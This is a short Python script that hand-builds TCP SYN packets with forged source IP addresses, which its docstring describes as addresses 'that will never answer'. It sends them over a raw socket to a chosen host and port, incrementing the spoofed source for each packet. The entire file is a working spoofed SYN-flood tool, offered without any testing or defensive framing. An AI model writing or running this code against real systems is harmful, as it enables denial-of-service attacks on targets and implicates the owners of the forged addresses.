#!/usr/bin/env python3
"""Send bare SYNs from source addresses that will never answer: COUNT of them to ADDRESS:PORT, starting at SOURCE."""

import argparse
import ipaddress
import random
import socket
import struct
import time


def arguments():
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("source", type=ipaddress.IPv4Address)
    parser.add_argument("address", type=ipaddress.IPv4Address)
    parser.add_argument("port", type=int)
    parser.add_argument("--count", type=int, default=1)
    return parser.parse_args()


def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total > 0xFFFF:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def syn(source, address, port):
    def header(check):
        ports = struct.pack("!HH", source_port, port)
        numbers = struct.pack("!II", isn, 0)
        return ports + numbers + struct.pack("!BBHHH", 6 << 4, 0x02, 64240, check, 0) + struct.pack("!BBH", 2, 4, 1460)

    source_port, isn = random.randint(32768, 60999), random.getrandbits(32)
    pseudo = source.packed + address.packed + struct.pack("!BBH", 0, socket.IPPROTO_TCP, 24)
    tcp = header(checksum(pseudo + header(0)))
    return struct.pack("!BBHHHBBH4s4s", 0x45, 0, 44, random.getrandbits(16), 0, 64, socket.IPPROTO_TCP, 0,
                       source.packed, address.packed) + tcp


def main():
    options = arguments()
    sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    for number in range(options.count):
        sock.sendto(syn(options.source + number, options.address, options.port), (str(options.address), 0))
        time.sleep(0.02)


main()
